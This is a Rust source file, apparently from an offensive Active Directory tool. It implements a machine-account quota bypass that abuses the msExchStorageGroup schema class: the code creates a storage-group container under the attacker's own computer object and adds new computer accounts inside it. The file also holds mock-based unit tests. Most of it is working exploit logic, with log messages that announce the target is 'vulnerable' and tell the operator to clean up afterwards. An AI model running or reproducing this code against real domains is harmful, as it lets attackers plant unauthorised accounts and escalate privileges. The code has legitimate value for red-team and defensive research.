//! Machine-account quota bypass through the `msExchStorageGroup` schema class.
//!
//! Where the class may be parented under computer objects, a machine account can create a
//! storage group under itself with an open security descriptor and then create further
//! computers inside it, outside the reach of the per-user creation quota. The container is left
//! behind and must be removed by the operator.

use tracing::{error, info};

use addcomputer_core::{DistinguishedName, Error, NameSource, Result, Sid};

use crate::entry::{account_filter, computer_entry, storage_group_entry};
use crate::session::{DirectorySession, SearchScope};

/// Active Directory sub-code reported when the machine-account quota is exhausted.
pub const QUOTA_EXCEEDED_SUB_CODE: u32 = 0x216D;

const STORAGE_GROUP_SCHEMA_FILTER: &str = "(cn=ms-Exch-Storage-Group)";
const ROOT_DSE_ATTRIBUTES: &[&str] = &["schemaNamingContext"];
const SCHEMA_ATTRIBUTES: &[&str] = &["possSuperiors"];
const OWN_ENTRY_ATTRIBUTES: &[&str] = &["objectSid"];

/// Computer account to create.
#[derive(Debug, Clone, Copy)]
pub struct ComputerSpec<'a> {
    /// Account name with the trailing `$`.
    pub account: &'a str,
    /// DNS domain the host belongs to.
    pub domain_fqdn: &'a str,
    /// Password to set.
    pub password: &'a str,
}

/// Creates `computer` inside a new storage group under the caller's own entry.
///
/// Returns the DN of the storage group, which now holds the account.
///
/// # Errors
///
/// Returns [`Error::QuotaExceeded`] when the schema does not allow the bypass or the caller's
/// entry cannot be found, and [`Error::DirectoryOperation`] when either add is refused.
pub async fn bypass_machine_quota<N: NameSource>(
    session: &mut dyn DirectorySession,
    names: &mut N,
    base_dn: &DistinguishedName,
    username: &str,
    computer: ComputerSpec<'_>,
) -> Result<DistinguishedName> {
    let quota_exceeded = || Error::QuotaExceeded(username.to_string());

    info!("Checking if `msExchStorageGroup` object exists within the schema and is vulnerable");
    let Some(schema_nc) = schema_naming_context(session).await? else {
        error!("Root DSE does not advertise a schema naming context");
        return Err(quota_exceeded());
    };

    let schema_entries = session
        .search(
            &schema_nc,
            SearchScope::OneLevel,
            STORAGE_GROUP_SCHEMA_FILTER,
            SCHEMA_ATTRIBUTES,
        )
        .await?;
    let Some(class) = schema_entries.first() else {
        error!(
            "Object `msExchStorageGroup` does not exist within the schema, Exchange is probably \
             not installed"
        );
        return Err(quota_exceeded());
    };
    if !class
        .values("possSuperiors")
        .iter()
        .any(|superior| superior.eq_ignore_ascii_case("computer"))
    {
        error!("Object `msExchStorageGroup` not vulnerable, was probably patched");
        return Err(quota_exceeded());
    }
    info!("Object `msExchStorageGroup` exists and is vulnerable!");

    let Some(owner) = own_entry(session, base_dn, username).await? else {
        error!(user = %username, "Could not find target user in domain");
        return Err(quota_exceeded());
    };

    let container_dn = owner.child("CN", &names.next_container_name());
    info!(
        container = %container_dn,
        parent = %owner,
        "Attempting to add new `msExchStorageGroup` object"
    );
    let result = session.add(&storage_group_entry(&container_dn)).await?;
    if !result.is_success() {
        error!(%result, "Failed to add `msExchStorageGroup` object");
        return Err(Error::DirectoryOperation(format!(
            "failed to add msExchStorageGroup object {container_dn}: {result}"
        )));
    }
    info!(container = %container_dn, "Added `msExchStorageGroup` object. DON'T FORGET TO CLEANUP");

    let entry = computer_entry(
        &container_dn,
        computer.account,
        computer.domain_fqdn,
        computer.password,
    );
    info!(container = %container_dn, "Attempting to create computer");
    let result = session.add(&entry).await?;
    if !result.is_success() {
        error!(%result, "Failed to add a new computer");
        return Err(Error::DirectoryOperation(format!(
            "failed to add computer {} under {container_dn}: {result}",
            entry.dn
        )));
    }

    Ok(container_dn)
}

async fn schema_naming_context(session: &mut dyn DirectorySession) -> Result<Option<String>> {
    let root_dse = session
        .search("", SearchScope::Base, "(objectClass=*)", ROOT_DSE_ATTRIBUTES)
        .await?;
    Ok(root_dse
        .first()
        .and_then(|entry| entry.first("schemaNamingContext"))
        .map(str::to_string))
}

async fn own_entry(
    session: &mut dyn DirectorySession,
    base_dn: &DistinguishedName,
    username: &str,
) -> Result<Option<DistinguishedName>> {
    let entries = session
        .search(
            base_dn.as_str(),
            SearchScope::Subtree,
            &account_filter(username),
            OWN_ENTRY_ATTRIBUTES,
        )
        .await?;
    let Some(entry) = entries.into_iter().next() else {
        return Ok(None);
    };

    if let Some(raw) = entry.first_bytes("objectSid") {
        match Sid::from_bytes(raw) {
            Ok(sid) => info!(dn = %entry.dn, %sid, "Resolved own account"),
            Err(err) => info!(dn = %entry.dn, error = %err, "Resolved own account"),
        }
    }

    DistinguishedName::parse(&entry.dn)
        .map(Some)
        .map_err(|err| Error::DirectoryOperation(format!("invalid DN `{}`: {err}", entry.dn)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::session::{DirectoryEntry, DirectoryResult, MockDirectorySession, NewEntry};
    use mockall::predicate::eq;
    use mockall::Sequence;
    use std::collections::HashMap;

    struct Names;

    impl NameSource for Names {
        fn next_computer_name(&mut self) -> String {
            "DESKTOP-UNUSED00$".to_string()
        }

        fn next_container_name(&mut self) -> String {
            "QWERTYUI".to_string()
        }
    }

    const OWNER_DN: &str = "CN=OWNED,CN=Computers,DC=corp,DC=local";

    fn base_dn() -> DistinguishedName {
        DistinguishedName::parse("DC=corp,DC=local").unwrap()
    }

    fn computer() -> ComputerSpec<'static> {
        ComputerSpec {
            account: "WS01$",
            domain_fqdn: "corp.local",
            password: "pw",
        }
    }

    fn entry(dn: &str, attribute: &str, values: &[&str]) -> DirectoryEntry {
        let mut attributes = HashMap::new();
        attributes.insert(
            attribute.to_string(),
            values.iter().map(|value| (*value).to_string()).collect(),
        );
        DirectoryEntry {
            dn: dn.to_string(),
            attributes,
            binary: HashMap::new(),
        }
    }

    fn owner_entry() -> DirectoryEntry {
        let mut binary = HashMap::new();
        binary.insert(
            "objectSid".to_string(),
            vec![vec![
                1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 3, 0, 0, 0, 0x51,
                0x04, 0, 0,
            ]],
        );
        DirectoryEntry {
            dn: OWNER_DN.to_string(),
            attributes: HashMap::new(),
            binary,
        }
    }

    fn expect_schema(
        session: &mut MockDirectorySession,
        seq: &mut Sequence,
        superiors: Vec<&'static str>,
    ) {
        session
            .expect_search()
            .with(
                eq(""),
                eq(SearchScope::Base),
                eq("(objectClass=*)"),
                eq(ROOT_DSE_ATTRIBUTES),
            )
            .times(1)
            .in_sequence(seq)
            .returning(|_, _, _, _| {
                Ok(vec![entry(
                    "",
                    "schemaNamingContext",
                    &["CN=Schema,CN=Configuration,DC=corp,DC=local"],
                )])
            });
        session
            .expect_search()
            .with(
                eq("CN=Schema,CN=Configuration,DC=corp,DC=local"),
                eq(SearchScope::OneLevel),
                eq(STORAGE_GROUP_SCHEMA_FILTER),
                eq(SCHEMA_ATTRIBUTES),
            )
            .times(1)
            .in_sequence(seq)
            .returning(move |_, _, _, _| {
                Ok(vec![entry(
                    "CN=ms-Exch-Storage-Group,CN=Schema,CN=Configuration,DC=corp,DC=local",
                    "possSuperiors",
                    &superiors,
                )])
            });
    }

    #[tokio::test]
    async fn creates_container_then_computer() {
        let mut session = MockDirectorySession::new();
        let mut seq = Sequence::new();
        expect_schema(&mut session, &mut seq, vec!["msExchStorageGroupContainer", "computer"]);
        session
            .expect_search()
            .with(
                eq("DC=corp,DC=local"),
                eq(SearchScope::Subtree),
                eq("(sAMAccountName=OWNED$)"),
                eq(OWN_ENTRY_ATTRIBUTES),
            )
            .times(1)
            .in_sequence(&mut seq)
            .returning(|_, _, _, _| Ok(vec![owner_entry()]));
        session
            .expect_add()
            .withf(|entry: &NewEntry| {
                entry.dn == format!("CN=QWERTYUI,{OWNER_DN}") && entry.controls.len() == 1
            })
            .times(1)
            .in_sequence(&mut seq)
            .returning(|_| Ok(DirectoryResult::success()));
        session
            .expect_add()
            .withf(|entry: &NewEntry| entry.dn == format!("CN=WS01,CN=QWERTYUI,{OWNER_DN}"))
            .times(1)
            .in_sequence(&mut seq)
            .returning(|_| Ok(DirectoryResult::success()));

        let container = bypass_machine_quota(&mut session, &mut Names, &base_dn(), "OWNED$", computer())
            .await
            .unwrap();
        assert_eq!(container.to_string(), format!("CN=QWERTYUI,{OWNER_DN}"));
    }

    #[tokio::test]
    async fn patched_schema_keeps_quota_error() {
        let mut session = MockDirectorySession::new();
        let mut seq = Sequence::new();
        expect_schema(&mut session, &mut seq, vec!["msExchStorageGroupContainer"]);
        session.expect_add().never();

        let err = bypass_machine_quota(&mut session, &mut Names, &base_dn(), "OWNED$", computer())
            .await
            .unwrap_err();
        assert_eq!(err, Error::QuotaExceeded("OWNED$".to_string()));
    }

    #[tokio::test]
    async fn missing_schema_class_keeps_quota_error() {
        let mut session = MockDirectorySession::new();
        session
            .expect_search()
            .with(
                eq(""),
                eq(SearchScope::Base),
                eq("(objectClass=*)"),
                eq(ROOT_DSE_ATTRIBUTES),
            )
            .returning(|_, _, _, _| {
                Ok(vec![entry("", "schemaNamingContext", &["CN=Schema,DC=corp,DC=local"])])
            });
        session
            .expect_search()
            .with(
                eq("CN=Schema,DC=corp,DC=local"),
                eq(SearchScope::OneLevel),
                eq(STORAGE_GROUP_SCHEMA_FILTER),
                eq(SCHEMA_ATTRIBUTES),
            )
            .returning(|_, _, _, _| Ok(Vec::new()));
        session.expect_add().never();

        let err = bypass_machine_quota(&mut session, &mut Names, &base_dn(), "OWNED$", computer())
            .await
            .unwrap_err();
        assert!(matches!(err, Error::QuotaExceeded(_)));
    }

    #[tokio::test]
    async fn container_and_computer_failures_are_distinct() {
        for failing_add in 0..2 {
            let mut session = MockDirectorySession::new();
            let mut seq = Sequence::new();
            expect_schema(&mut session, &mut seq, vec!["computer"]);
            session
                .expect_search()
                .times(1)
                .in_sequence(&mut seq)
                .returning(|_, _, _, _| Ok(vec![owner_entry()]));
            let mut call = 0;
            session.expect_add().returning(move |_| {
                let result = if call == failing_add {
                    DirectoryResult {
                        code: 50,
                        message: "00002098: SecErr".to_string(),
                    }
                } else {
                    DirectoryResult::success()
                };
                call += 1;
                Ok(result)
            });

            let err = bypass_machine_quota(&mut session, &mut Names, &base_dn(), "OWNED$", computer())
                .await
                .unwrap_err();
            let Error::DirectoryOperation(message) = err else {
                panic!("unexpected error kind");
            };
            if failing_add == 0 {
                assert!(message.starts_with("failed to add msExchStorageGroup object"));
            } else {
                assert!(message.starts_with("failed to add computer CN=WS01"));
            }
        }
    }
}
